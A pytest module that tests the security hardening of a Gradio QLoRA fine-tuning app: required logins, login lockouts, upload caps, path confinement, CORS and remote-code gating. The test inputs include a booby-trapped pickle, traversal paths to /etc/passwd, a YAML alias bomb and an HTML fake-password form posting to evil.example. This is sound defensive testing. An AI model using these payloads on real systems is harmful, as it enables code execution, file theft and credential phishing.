"""Nobody let in: exposure needs a login, the login leaks nothing, uploads are capped, files and run names stay
inside their folders, model code and pickles run only when asked. Checked through the HTTP interface of a
running app (raw requests and gradio_client), not only by calling functions."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import gradio as gr
import httpx
import pytest
from gradio_client.exceptions import AppError

from qlora_ui.studio import Studio
from qlora_ui.ui.tabs import runs as runs_tab
from tests.fault_helpers import (
    FORM,
    ROOT,
    ByName,
    bad_model_folders,
    fake_hub_repo,
    fast_cfg,
    form,
    run_dirs,
    wait_for,
    write_rows,
)

AUTH = ("alice", "correct horse")
BOB = ("bob", "battery staple")  # the login-throttling test locks this user out; the others sign in as alice
CAROL = ("carol", "purple monkey dishwasher")  # locked out by the eviction test
HUB_REPO = "evil-org/evil-model"
CAP = 4096  # --max-file-size, bytes


def app_exit(*flags: str, tmp: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "app.py", "--runs-dir", str(tmp / "runs"), *flags], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("flags", [["--share"], ["--host", "0.0.0.0"], ["--host", "192.168.1.20"],
                                   ["--host", "0.0.0.0", "--auth-file", "EMPTY"]],
                         ids=["share", "all-interfaces", "lan-address", "empty-auth-file"])
def test_exposure_without_a_login_refuses_to_start(flags, tmp_path):
    empty = tmp_path / "auth.txt"
    empty.write_text("# no users yet\n")
    empty.chmod(0o600)
    out = app_exit(*[str(empty) if f == "EMPTY" else f for f in flags], tmp=tmp_path)
    assert out.returncode == 2, out.stderr
    assert out.stderr.startswith("error:") and "--auth" in out.stderr and "Traceback" not in out.stderr


class Evil:
    """A pickle that leaves a mark when anything unpickles it."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "pwned"))


@pytest.fixture(scope="module")
def secured(tmp_path_factory, tiny_model_dir, bundled_dir):
    from tests.fault_helpers import start_app

    tmp = tmp_path_factory.mktemp("secured")
    models = bad_model_folders(tmp / "models", tiny_model_dir)
    # safetensors next to a booby-trapped pickle: only the safetensors may be read.
    trapped = models["trapped"] = tmp / "models" / "trapped"
    shutil.copytree(tiny_model_dir, trapped)
    import torch

    torch.save(Evil(tmp / "PWNED"), trapped / "pytorch_model.bin")  # torch.load(weights_only=False) would run it
    outside = tmp / "outside-model"
    shutil.copytree(tiny_model_dir, outside)
    fake = tmp / "runs" / "20260101-000000-fake"
    fake.mkdir(parents=True)
    (fake / "config.yaml").write_text("name: fake\n")
    victim = tmp / "victim"
    victim.mkdir()
    (victim / "config.yaml").write_text("name: victim\n")
    (tmp / "secret.txt").write_text("the launch codes\n")
    data = write_rows(tmp / "train.jsonl")
    assert data.stat().st_size < CAP
    # A hub repository already in the (offline) hub cache whose auto_map code leaves a mark when imported.
    hub_marker = tmp / "REMOTE-CODE-RAN"
    fake_hub_repo(tmp / "hub", HUB_REPO, tiny_model_dir, hub_marker)
    auth_file = tmp / "users.txt"
    auth_file.write_text("".join(f"{u}:{p}\n" for u, p in (AUTH, BOB, CAROL)))
    auth_file.chmod(0o600)
    env = {"HF_HUB_CACHE": str(tmp / "hub"), "HF_MODULES_CACHE": str(tmp / "modules"),
           "GRADIO_TEMP_DIR": str(tmp / "gradio-cache"), "TMPDIR": str(tmp / "tmp")}
    (tmp / "tmp").mkdir()
    # The per-name throttle's tests fail hundreds of sign-ins from this one address: the per-address limit is
    # off here and tested against an app of its own (test_many_failed_sign_ins_from_one_address_are_refused).
    proc, url = start_app(tmp, tiny_model_dir, "--auth-file", str(auth_file), "--max-file-size", f"{CAP}b",
                          "--allowed-host", "studio.example.net", "--allowed-datasets", "timdettmers/*",
                          "--login-failures-per-address", "0", env_extra=env)
    log = next(tmp.glob("app-*.log"))
    yield dict(tmp=tmp, url=url, proc=proc, models=models, outside=outside, fake=fake, victim=victim, data=data,
               hub_marker=hub_marker, env=env, log=log)
    proc.terminate()
    proc.wait(30)


def logged_in(url: str) -> httpx.Client:
    c = httpx.Client(base_url=url, timeout=60)
    r = c.post("/login", data={"username": AUTH[0], "password": AUTH[1]})
    assert r.status_code == 200 and r.json() == {"success": True}
    return c


def client(url: str):
    from gradio_client import Client

    return Client(url, auth=AUTH, verbose=False)


@pytest.mark.slow
def test_binds_to_loopback_by_default(secured):
    import psutil

    listening = [c.laddr for c in psutil.Process(secured["proc"].pid).net_connections(kind="tcp")
                 if c.status == psutil.CONN_LISTEN]
    assert listening and {a.ip for a in listening} == {"127.0.0.1"}


@pytest.mark.slow
def test_without_a_login_nothing_is_reachable(secured):
    from gradio_client import Client

    url = secured["url"]
    anon = httpx.Client(base_url=url, timeout=30)
    for method, path in [("GET", "/config"), ("GET", "/gradio_api/info"), ("POST", "/gradio_api/call/list_runs"),
                         ("POST", "/gradio_api/upload"), ("POST", "/gradio_api/queue/join"),
                         ("GET", "/qs/train-progress"),
                         ("GET", f"/gradio_api/file={ROOT / 'presets' / 'data' / 'pirate_chat.jsonl'}")]:
        r = anon.request(method, path, json={"data": []} if method == "POST" else None)
        assert r.status_code == 401, (path, r.status_code, r.text[:200])
    with pytest.raises(ValueError, match="credentials were not provided"):
        Client(url, verbose=False)
    with pytest.raises(ValueError, match="Could not login"):
        Client(url, auth=(AUTH[0], "wrong"), verbose=False)


@pytest.mark.slow
def test_the_light_progress_route_and_the_early_script_behind_a_login(secured):
    """The Train tab's JSON progress answers a signed-in page (and only it: see the test above), and the page
    itself carries the early script as the first thing in its <head>, where Gradio's `head=` could not put it."""
    c = logged_in(secured["url"])
    r = c.get("/qs/train-progress")
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store", r.text[:200]
    body = r.json()
    assert set(body) == {"key"} or set(body) == {"key", "progress", "log"}, body
    assert c.get("/qs/train-progress", params={"run": "x", "since": "two"}).status_code == 422
    page = c.get("/").text
    head = page[page.index("<head"):]
    assert head[head.index(">") + 1:].lstrip().startswith("<script>") and "__qsTrackerTicks" in page


def test_the_progress_route_asks_an_auth_dependency_as_gradio_does():
    """Gradio awaits an async `auth_dependency`; a coroutine object is never None, so not awaiting it would let
    everyone read the progress route."""
    import asyncio
    import types

    from qlora_ui.ui.progress_route import signed_in

    async def nobody(request):
        return None

    async def ada(request):
        return "ada"

    for dependency, expected in ((nobody, False), (ada, True), (lambda r: None, False), (lambda r: "ada", True)):
        app = types.SimpleNamespace(auth=None, auth_dependency=dependency)
        assert asyncio.run(signed_in(app, object())) is expected, dependency


@pytest.mark.slow
def test_failed_logins_do_not_say_which_part_was_wrong(secured):
    url = secured["url"]
    answers = []
    for user, pw in [("mallory", AUTH[1]), (AUTH[0], "wrong"), ("mallory", "wrong"), (AUTH[0].upper(), AUTH[1])]:
        r = httpx.post(url + "/login", data={"username": user, "password": pw})
        assert not r.cookies
        answers.append((r.status_code, r.text))
    assert len(set(answers)) == 1 and answers[0][0] == 400, answers
    logged_in(url)


@pytest.mark.slow
def test_uploads_over_the_cap_are_refused(secured):
    c = logged_in(secured["url"])
    r = c.post("/gradio_api/upload", files={"files": ("big.jsonl", b"x" * (CAP + 1))})
    assert r.status_code == 413 and "maximum allowed size" in r.text
    r = c.post("/gradio_api/upload", files={"files": ("small.jsonl", b"x" * 100)})
    assert r.status_code == 200 and len(r.json()) == 1
    assert secured["proc"].poll() is None


@pytest.mark.slow
def test_the_file_route_serves_only_allowed_paths(secured):
    c = logged_in(secured["url"])
    tmp = secured["tmp"]
    refused = ["/etc/passwd", str(secured["fake"] / "config.yaml"), str(tmp / "runs"), str(tmp / "secret.txt"),
               str(ROOT / "app.py"), str(ROOT / "presets" / "cpu-quickstart.yaml"),
               str(ROOT / "presets" / "data" / ".." / "cpu-quickstart.yaml"),
               str(ROOT / "presets" / "data" / "%2E%2E" / "%2E%2E" / "app.py"), "../../../../etc/passwd",
               "..%2F..%2F..%2Fetc%2Fpasswd", str(secured["models"]["tiny"] / "config.json")]
    for path in refused:
        r = c.get(f"/gradio_api/file={path}")
        assert r.status_code in (403, 404), (path, r.status_code, r.text[:100])
        assert "launch codes" not in r.text and "root:" not in r.text
    # the one allowed folder: the bundled dataset the quick-start form points at
    r = c.get(f"/gradio_api/file={ROOT / 'presets' / 'data' / 'pirate_chat.jsonl'}")
    assert r.status_code == 200 and '"messages"' in r.text


@pytest.mark.slow
def test_a_server_path_cannot_pose_as_an_upload(secured):
    """A client may only hand the app files it uploaded, never a path on the server."""
    c = logged_in(secured["url"])
    vals = form(fast_cfg(secured["models"]["tiny"], secured["data"]))
    for path in [str(secured["tmp"] / "secret.txt"), "/etc/passwd", str(secured["fake"] / "config.yaml")]:
        vals[FORM.keys.index("data_path")] = {"path": path, "meta": {"_type": "gradio.FileData"}}
        event = c.post("/gradio_api/call/inspect_data", json={"data": vals}).json()["event_id"]
        text = c.get(f"/gradio_api/call/inspect_data/{event}").text
        assert "event: error" in text and "not uploaded by a user" in text, text[:300]
        assert "launch codes" not in text and "root:" not in text


@pytest.mark.slow
def test_run_names_cannot_escape_the_runs_dir(secured):
    api = client(secured["url"])
    names = [r[0] for r in api.predict(api_name="/list_runs")[0]["data"]]
    # Exactly the runs in the runs folder, whatever other tests of this module left there.
    assert sorted(names) == sorted(p.name for p in run_dirs(secured["tmp"] / "runs")) and secured["fake"].name in names
    assert secured["fake"].name in api.predict(secured["fake"].name, api_name="/run_details")[0]
    for name in ["../victim", str(secured["victim"]), "../../etc", "..", "../runs/../victim"]:
        # The Run lists take typed names (scripts need not list runs first): the handlers refuse these.
        for endpoint in ["/run_details", "/delete_run", "/resume_training"]:
            with pytest.raises(AppError, match="not a run|not in the list of choices"):
                api.predict(name, api_name=endpoint)
    assert (secured["victim"] / "config.yaml").is_file() and secured["fake"].is_dir()
    # Behind Gradio's choice check, the handlers confine names themselves (a renamed dropdown cannot help).
    studio = Studio(secured["tmp"] / "runs")
    for name in ["../victim", str(secured["victim"]), f"{secured['fake'].name}/../../victim"]:
        with pytest.raises(gr.Error):
            runs_tab.delete_run(studio, name)
        with pytest.raises(gr.Error):
            runs_tab.run_details(studio, ByName(), name)
    assert (secured["victim"] / "config.yaml").is_file()


@pytest.mark.slow
def test_typed_model_paths_stay_inside_the_model_root(secured):
    from gradio_client import handle_file

    api = client(secured["url"])
    root = secured["tmp"] / "models"
    before = run_dirs(secured["tmp"] / "runs")
    for typed in [str(secured["outside"]), f"{root}/../outside-model", "/etc", "~/", "../../.."]:
        vals = form(fast_cfg(root / "tiny", secured["data"]), base_model=typed,
                    data_path=handle_file(str(secured["data"])))
        with pytest.raises(AppError, match="outside the folders this app may read"):
            api.predict(*vals, api_name="/start_training")
        summary = api.predict(*vals, api_name="/inspect_data")[0]
        assert "outside the folders" in summary, summary
    vals = form(fast_cfg(root / "tiny", secured["data"]), name="../../evil",
                data_path=handle_file(str(secured["data"])))
    with pytest.raises(AppError, match="'../../evil': use 1-64 letters"):
        api.predict(*vals, api_name="/start_training")
    assert run_dirs(secured["tmp"] / "runs") == before


def runs_client(url: str):
    """A client whose session has listed the runs (the Runs tab's dropdown only takes listed names)."""
    api = client(url)
    api.predict(api_name="/list_runs")
    return api


def queue_call(c: httpx.Client, api_name: str, data: list) -> list[dict]:
    """Call an event through the queue as the browser does, collecting every message (including warnings)."""
    deps = c.get("/config").json()["dependencies"]
    fn = next(i for i, d in enumerate(deps) if d.get("api_name") == api_name)
    session = uuid.uuid4().hex[:12]
    r = c.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                               "event_data": None, "trigger_id": deps[fn].get("id")})
    assert r.status_code == 200, r.text
    msgs = []
    with c.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as s:
        for line in s.iter_lines():
            if line.startswith("data:"):
                msgs.append(json.loads(line[5:]))
                if msgs[-1].get("msg") == "process_completed":
                    break
    return msgs


def upload(c: httpx.Client, path: Path, name: str | None = None) -> dict:
    r = c.post("/gradio_api/upload", files={"files": (name or path.name, path.read_bytes())})
    assert r.status_code == 200, r.text
    return {"path": r.json()[0], "orig_name": name or path.name, "meta": {"_type": "gradio.FileData"}}


@pytest.mark.slow
def test_remote_code_and_pickles_cannot_be_turned_on_by_a_request(secured):
    """Finding 1: a hub id with trust_remote_code ran the repo's auto_map Python inside the app."""
    c = logged_in(secured["url"])
    models = secured["models"]
    # Off by default in the form the app serves.
    preset = queue_call(c, "load_preset", ["cpu-quickstart"])[-1]["output"]["data"]
    assert preset[FORM.keys.index("trust_remote_code")] is False and preset[FORM.keys.index("allow_pickle")] is False

    data = upload(c, secured["data"])
    before = run_dirs(secured["tmp"] / "runs")
    attempts = [(HUB_REPO, dict(trust_remote_code=True), "trust_remote_code"),
                (str(models["remote_code"]), dict(trust_remote_code=True), "trust_remote_code"),
                (str(models["pickle_only"]), dict(allow_pickle=True), "allow_pickle"),
                (str(models["tiny"]), dict(trust_remote_code=True, allow_pickle=True), "allow_pickle")]
    for model, flags, words in attempts:
        vals = form(fast_cfg(model, secured["data"], **flags), data_path=data)
        done = queue_call(c, "start_training", vals)[-1]
        assert done["success"] is False, (model, done)
        assert words in done["output"]["error"] and "--allow-remote-code" in done["output"]["error"], done
        summary = queue_call(c, "inspect_data", vals)[-1]["output"]["data"][0]
        assert "--allow-remote-code" in summary, summary
    assert run_dirs(secured["tmp"] / "runs") == before
    assert not secured["hub_marker"].exists()

    # The cached repo is real bait: loaded with trust_remote_code outside the app, its code does run.
    control = secured["tmp"] / "control-marker"
    fake_hub_repo(secured["tmp"] / "hub-control", HUB_REPO, models["tiny"], control)
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_HUB_CACHE": str(secured["tmp"] / "hub-control"),
           "HF_MODULES_CACHE": str(secured["tmp"] / "modules-control")}
    subprocess.run([sys.executable, "-c", "from transformers import AutoConfig; "
                    f"AutoConfig.from_pretrained({HUB_REPO!r}, trust_remote_code=True)"], env=env, check=True,
                   capture_output=True, timeout=120)
    assert control.read_text() == "remote code ran"

    # With both options off, a folder with safetensors next to a booby-trapped pickle trains. The marker is a
    # tripwire only: transformers prefers the safetensors and torch loads with weights_only, so it would stay
    # absent even without the app's guard. The guard's own check, with nothing but the pickle in the folder, is
    # test_loading_never_unpickles_a_bin_only_folder_without_allow_pickle (and the pickle_only attempt above).
    vals = form(fast_cfg(models["trapped"], secured["data"], max_steps=2, save_steps=2, name="trusted"),
                data_path=data)
    assert queue_call(c, "start_training", vals)[-1]["success"] is True
    run = wait_for(lambda: [p for p in run_dirs(secured["tmp"] / "runs") if p.name.endswith("-trusted")], 30, "run")[0]
    wait_for(lambda: json.loads((run / "status.json").read_text())["state"] in ("finished", "failed"), 90,
             "the trusted run to end")
    assert json.loads((run / "status.json").read_text())["state"] == "finished"
    assert not (secured["tmp"] / "PWNED").exists()


def test_only_the_operator_turns_on_remote_code(tmp_path):
    """The launch flag is the only switch: the same config is refused by a default Studio, allowed by one
    started with --allow-remote-code, and hub ids can be limited to an allow-list."""
    from qlora_ui.config import ConfigError, ModelConfig

    m = ModelConfig(base_model=HUB_REPO, trust_remote_code=True)
    with pytest.raises(ConfigError, match="--allow-remote-code"):
        Studio(tmp_path / "a").check_model(m)
    Studio(tmp_path / "b", allow_remote_code=True).check_model(m)
    limited = Studio(tmp_path / "c", allowed_models=["meta-llama/*", "Qwen/Qwen2.5-7B"])
    limited.check_model(ModelConfig(base_model="meta-llama/Llama-2-7b-hf"))
    limited.check_model(ModelConfig(base_model="Qwen/Qwen2.5-7B"))
    with pytest.raises(ConfigError, match="--allowed-models"):
        limited.check_model(ModelConfig(base_model=HUB_REPO))


# ---- a shared link among strangers (issue: remote code, unbounded inputs, stored HTML, presets) ----

def chat_call(c: httpx.Client, message: str, max_new_tokens: int = 64, abandon_after: int | None = None
              ) -> tuple[dict | None, float]:
    """One chat request through the queue as a browser sends it: (the final message or None if abandoned,
    seconds taken). With `abandon_after`, the client hangs up after that many streamed updates."""
    import time

    deps = c.get("/config").json()["dependencies"]
    fn = next(i for i, d in enumerate(deps) if d.get("api_name") == "chat")
    session = uuid.uuid4().hex[:12]
    data = ["Base model only", None, "", 0.0, 0.9, max_new_tokens, 0, message, []]
    t0 = time.time()
    r = c.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                               "event_data": None, "trigger_id": deps[fn].get("id")})
    assert r.status_code == 200, r.text
    updates = 0
    with c.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as s:
        for line in s.iter_lines():
            if not line.startswith("data:"):
                continue
            msg = json.loads(line[5:])
            if msg.get("msg") == "process_generating":
                updates += 1
                if abandon_after and updates >= abandon_after:
                    return None, time.time() - t0
            if msg.get("msg") == "process_completed":
                return msg, time.time() - t0
    raise AssertionError("the stream ended without a result")


def reply_text(done: dict) -> str:
    content = done["output"]["data"][0][-1]["content"]
    return "".join(p.get("text", "") for p in content) if isinstance(content, list) else content


@pytest.mark.slow
def test_huge_chat_messages_are_refused_and_others_still_answered(secured):
    """Finding 2a: a 1 MB message took the CPU for minutes and starved every other chat."""
    c = logged_in(secured["url"])
    done, _ = chat_call(c, "Hello!")  # loads the bundled model once
    assert done["success"] is True and reply_text(done).strip(), done
    done, took = chat_call(c, "x" * 1_000_000)
    assert done["success"] is False and "1,000,000 characters" in done["output"]["error"], done
    assert took < 10, took
    # Under the character cap but over the prompt-token cap: refused by its token count, not cut silently.
    done, took = chat_call(c, "zq " * 2600)
    assert done["success"] is False and "tokens" in done["output"]["error"], done
    assert took < 20, took
    other = logged_in(secured["url"])
    done, took = chat_call(other, "What is the capital of France?", max_new_tokens=16)
    assert done["success"] is True and reply_text(done).strip() and took < 60, (done, took)


@pytest.mark.slow
def test_an_abandoned_chat_stops_generating(secured):
    """Finding 2b: generation went on for nobody after the client left, holding the model for everyone else.
    Checked at the batch server: its decode loop logs the row leaving with the tokens it was given (the reader's
    own "generation stopped" line is written whether or not the worker honours the cancel)."""
    import re
    import time

    c = logged_in(secured["url"])
    chat_call(c, "Hi")  # model loaded
    said = re.compile(r"chat row left the batch: its reader went away after (\d+) tokens")
    before = len(said.findall(secured["log"].read_text()))
    done, _ = chat_call(c, "Write a very long story about a dragon, in twenty chapters.", max_new_tokens=1024,
                        abandon_after=3)
    assert done is None
    wait_for(lambda: len(said.findall(secured["log"].read_text())) > before, 30,
             "the batch server to drop the row of the client that left")
    tokens = int(said.findall(secured["log"].read_text())[before])
    assert 3 <= tokens < 50, tokens  # of 1,024 asked for: it left soon after the hang-up
    t0 = time.time()
    done, _ = chat_call(logged_in(secured["url"]), "Say yes.", max_new_tokens=8)
    assert done["success"] is True and time.time() - t0 < 30


@pytest.mark.slow
def test_long_text_fields_are_refused_before_any_work(secured):
    """Finding 3: a 5 MB system prompt held the one-at-a-time data inspection for 6+ minutes."""
    import time

    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    base = fast_cfg(secured["models"]["tiny"], secured["data"])
    for key, value, words in [("system_prompt", "s" * 5_000_000, "limit is 4,000"),
                              ("name", "n" * 100_000, "limit is 256"),
                              ("base_model", "m" * 100_000, "limit is 1,024"),
                              ("target_modules", "q_proj," * 20_000, "limit is 256")]:
        t0 = time.time()
        done = queue_call(c, "inspect_data", form(base, data_path=data, **{key: value}))[-1]
        assert done["success"] is False and words in done["output"]["error"], (key, str(done)[:300])
        assert len(done["output"]["error"]) < 2000  # the value is not echoed back whole
        assert time.time() - t0 < 15, key


@pytest.mark.slow
def test_column_map_alias_bomb_is_refused_quickly(secured):
    """Finding 4: column_map was parsed as YAML; 388 bytes of nested aliases took 6 s and ~1 GB."""
    import time

    import psutil

    bomb = "{a: &a [x,x,x,x,x,x,x,x,x,x], b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a], " \
           "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b], d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c], " \
           "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d], f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e], " \
           "g: [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]}"
    c = logged_in(secured["url"])
    data = upload(c, secured["data"])
    rss = psutil.Process(secured["proc"].pid).memory_info().rss
    t0 = time.time()
    done = queue_call(c, "inspect_data", form(fast_cfg(secured["models"]["tiny"], secured["data"]), data_path=data,
                                              column_map=bomb))[-1]
    assert done["success"] is False and "question=instruction, answer=output" in done["output"]["error"], done
    assert time.time() - t0 < 5
    assert psutil.Process(secured["proc"].pid).memory_info().rss - rss < 200 * 2**20
    # The documented form, typed with spaces, works.
    rows = secured["tmp"] / "qa.jsonl"
    rows.write_text("".join(json.dumps({"question": f"Q{i}?", "answer": f"A{i}."}) + "\n" for i in range(20)))
    summary = queue_call(c, "inspect_data", form(fast_cfg(secured["models"]["tiny"], rows), data_path=upload(c, rows),
                                                 column_map="question=instruction, answer=output"))
    assert "alpaca" in summary[-1]["output"]["data"][0], summary[-1]


@pytest.mark.slow
def test_a_foreign_origin_gets_no_credentialed_access(secured):
    """Finding 5: reached by a non-localhost name, Gradio granted any Origin with credentials."""
    c = logged_in(secured["url"])
    cookies = dict(c.cookies)
    host = {"Host": "studio.example.net"}  # as behind a share link or a LAN name (--allowed-host)
    evil = {**host, "Origin": "https://evil.example"}
    pre = httpx.options(secured["url"] + "/gradio_api/call/list_runs", headers={
        **evil, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"})
    assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers, pre.headers
    for method, path in [("POST", "/gradio_api/call/list_runs"), ("GET", "/config"), ("GET", "/gradio_api/info"),
                         ("GET", "/qs/train-progress")]:
        r = httpx.request(method, secured["url"] + path, headers=evil, cookies=cookies,
                          json={"data": []} if method == "POST" else None)
        assert r.status_code == 403 and "access-control-allow-origin" not in r.headers, (path, r.status_code)
    # The app's own origin on that host name still works.
    own = httpx.post(secured["url"] + "/gradio_api/call/list_runs", json={"data": []}, cookies=cookies,
                     headers={**host, "Origin": "https://studio.example.net"})
    assert own.status_code == 200 and "event_id" in own.json(), own.text
    # The login cookie is not sent by other sites' pages at all.
    r = httpx.post(secured["url"] + "/login", data={"username": AUTH[0], "password": AUTH[1]})
    cookies = r.headers.get_list("set-cookie")
    assert cookies and all("samesite=lax" in h.lower() for h in cookies), cookies


@pytest.mark.slow
def test_html_from_files_and_runs_shows_as_text(secured):
    """Finding 6: a CSV header with <form>/<img> rendered as a working fake form in every session's Runs tab."""
    c = logged_in(secured["url"])
    payload = '<form action="http://evil.example/"><input type="password" name="pw"></form>' \
              '<img src="http://evil.example/x.png">'
    bad = secured["tmp"] / "evil.csv"
    bad.write_text(f'"{payload.replace(chr(34), chr(34) * 2)}",other\n1,2\n3,4\n')
    fence = secured["tmp"] / "fence.jsonl"
    fence.write_text(json.dumps({"instruction": "hi", "output": "yo", "```\n<img src=x>": "z"}) + "\n")
    base = fast_cfg(secured["models"]["tiny"], bad)
    texts = []
    for path in (bad, fence):
        texts.append(queue_call(c, "inspect_data", form(base, data_path=upload(c, path)))[-1]["output"]["data"][0])
    # A run whose status message holds the same text (as a failed run's error would).
    run = secured["tmp"] / "runs" / "20260102-000000-html"
    (run / "adapter").mkdir(parents=True)
    (run / "config.yaml").write_text("name: html\n")
    (run / "status.json").write_text(json.dumps({"state": "failed", "message": f"column {payload} is unknown"}))
    texts.append(runs_client(secured["url"]).predict(run.name, api_name="/run_details")[0])
    assert "evil.example" in texts[0] and "evil.example" in texts[2]
    for text in texts:
        low = text.lower()
        assert "<form" not in low and "<img" not in low and "<input" not in low, text
    # The summary block cannot be closed early from inside: one <pre>, one </pre>, at the ends.
    fenced = texts[1].split("\n\n**Next:**")[0].strip()
    assert fenced.startswith("<pre") and fenced.endswith("</pre>") and texts[1].count("</pre>") == 1, texts[1]
    assert "&lt;form" in texts[0] and "&lt;img" in texts[2]
    shutil.rmtree(run)


@pytest.mark.slow
def test_a_hub_dataset_the_app_may_not_download_is_refused_over_http(secured):
    """Issue 30: with --allowed-datasets 'timdettmers/*', a request naming another Hub id starts nothing and
    downloads nothing; the data panel says why."""
    api = client(secured["url"])
    before = run_dirs(secured["tmp"] / "runs")
    vals = form(fast_cfg(secured["models"]["tiny"], "hf://someone/huge-crawl"))
    with pytest.raises(AppError, match="not one this app may download"):
        api.predict(*vals, api_name="/start_training")
    summary = api.predict(*vals, api_name="/inspect_data")[0]
    assert "not one this app may download" in summary and "allowed: timdettmers/" in summary, summary
    assert run_dirs(secured["tmp"] / "runs") == before


@pytest.mark.slow
def test_bundled_presets_cannot_be_replaced(secured):
    """Finding 7: save_preset('cpu-quickstart') replaced the bundled preset for everyone; '.x' made dot-files."""
    import hashlib

    bundled = ROOT / "presets" / "cpu-quickstart.yaml"
    digest = hashlib.sha256(bundled.read_bytes()).hexdigest()
    api = client(secured["url"])
    vals = form(fast_cfg(secured["models"]["tiny"], secured["data"], max_steps=999999), data_path=None)
    for name in ["cpu-quickstart", "qlora-paper", ".", "..", ".hidden", "../cpu-quickstart", "a/b",
                 "CPU-QUICKSTART", "cpu-quickstart.", "Qlora-Paper_"]:  # lookalikes too
        with pytest.raises(AppError, match="preset name"):
            api.predict(name, *vals, api_name="/save_preset")
    assert hashlib.sha256(bundled.read_bytes()).hexdigest() == digest
    assert not list((ROOT / "presets").glob(".*.yaml")) and not list((ROOT / "presets").glob(".yaml"))
    from qlora_ui.presets import user_presets_dir

    user = user_presets_dir(ROOT / "presets", AUTH[0]) / "sec-test-mine.yaml"  # behind a login: alice's own
    try:
        api.predict("sec-test-mine", *vals, api_name="/save_preset")
        assert user.is_file() and "999999" in user.read_text()
        loaded = api.predict("sec-test-mine", api_name="/load_preset")
        assert loaded[FORM.keys.index("max_steps")] == 999999
        loaded = api.predict("cpu-quickstart", api_name="/load_preset")
        assert loaded[FORM.keys.index("max_steps")] != 999999
    finally:
        user.unlink(missing_ok=True)
        _remove_empty(user.parent)


def _remove_empty(folder: Path) -> None:
    """A user's preset folder and presets/user/by-user/ once a test has removed its presets (others may remain)."""
    for d in (folder, folder.parent):
        try:
            d.rmdir()
        except OSError:
            return


@pytest.mark.slow
def test_repeated_failed_logins_lock_that_user_name(secured):
    """Finding 8a: 30 bad logins in 0.04 s, then the right password worked."""
    url = secured["url"]
    codes = [httpx.post(url + "/login", data={"username": BOB[0], "password": f"guess{i}"}).status_code
             for i in range(5)]
    assert codes == [400] * 5
    r = httpx.post(url + "/login", data={"username": BOB[0], "password": BOB[1]})
    assert r.status_code == 429 and "Try again in" in r.text and int(r.headers["retry-after"]) > 0, r.text
    logged_in(url)  # another user is not locked out


def guesser(monkeypatch, failures: int):
    """A throttle on a fake clock, and a guesser who waits out each lockout and fails again: returns (throttle,
    clock, the lockouts it was told). Five failures lock the name out; each further one doubles the lockout."""
    from types import SimpleNamespace

    from qlora_ui import webguard

    clock = [1000.0]
    monkeypatch.setattr(webguard, "time", SimpleNamespace(time=lambda: clock[0]))
    t = webguard.LoginThrottle([AUTH])
    assert [t(AUTH[0], f"guess{i}") for i in range(5)] == [False] * 5
    told = []
    for _ in range(failures - 5):
        told.append(t.locked_for(AUTH[0]))
        clock[0] += told[-1]
        assert t(AUTH[0], "wrong again") is False
    told.append(t.locked_for(AUTH[0]))
    return t, clock, told


def test_the_login_lockout_doubles(monkeypatch):
    """docs/reliability.md: 30 s after five wrong passwords, doubling with each further one; refused until then
    even with the right password, with a Retry-After."""
    from fastapi import HTTPException

    t, clock, told = guesser(monkeypatch, 7)
    assert told == [30, 60, 120]
    clock[0] += 119
    with pytest.raises(HTTPException) as e:  # one second early: refused even with the right password
        t(*AUTH)
    assert e.value.status_code == 429 and e.value.headers["Retry-After"] == "2"  # whole seconds, rounded up
    clock[0] += 1
    assert t(*AUTH) is True


def test_the_login_lockout_keeps_doubling_to_ten_minutes(monkeypatch):
    """The streak, not a window ending now, is counted: the lockout reaches its 10-minute cap (it once restarted
    at 30 s once the first five failures left the 5-minute window), and a quiet window ends the streak."""
    t, clock, told = guesser(monkeypatch, 11)
    assert told == [30, 60, 120, 240, 480, 600, 600]
    clock[0] += 100
    assert t.locked_for(AUTH[0]) > 0
    clock[0] += 500 + 300  # the lockout over, then a quiet window: a new failure starts counting afresh
    assert t(AUTH[0], "one slip") is False and t.locked_for(AUTH[0]) == 0
    assert t(*AUTH) is True


@pytest.mark.slow
def test_adapter_zips_do_not_pile_up(secured):
    """Finding 8b: run_details left a fresh adapter zip in the temp folder on every call."""
    run = secured["tmp"] / "runs" / "20260103-000000-zipped"
    (run / "adapter").mkdir(parents=True)
    (run / "config.yaml").write_text("name: zipped\n")
    (run / "adapter" / "adapter_config.json").write_text("{}")
    (run / "adapter" / "adapter_model.safetensors").write_bytes(os.urandom(200_000))
    api = runs_client(secured["url"])
    tmp = Path(secured["env"]["TMPDIR"])
    cache = Path(secured["env"]["GRADIO_TEMP_DIR"])

    def zips(folder: Path) -> list[Path]:
        return [p for p in folder.rglob("*.zip") if "zipped" in p.name]

    downloads = [api.predict(run.name, api_name="/run_details")[2] for _ in range(6)]
    assert all(downloads)
    assert len(zips(tmp)) == 1 and len(zips(cache)) == 1, (zips(tmp), zips(cache))
    import zipfile

    def inside(update) -> bytes:  # the adapter weights in the zip the client downloaded
        return zipfile.ZipFile(update["value"]).read("adapter_model.safetensors")

    first = inside(downloads[-1])
    assert first == (run / "adapter" / "adapter_model.safetensors").read_bytes()
    new = os.urandom(200_000)
    (run / "adapter" / "adapter_model.safetensors").write_bytes(new)  # a new adapter version
    served = api.predict(run.name, api_name="/run_details")[2]
    assert len(zips(tmp)) == 1, zips(tmp)
    # The zip served is the new adapter, not the one cached for the old version.
    assert inside(served) == new
    assert zipfile.ZipFile(zips(tmp)[0]).read("adapter_model.safetensors") == new
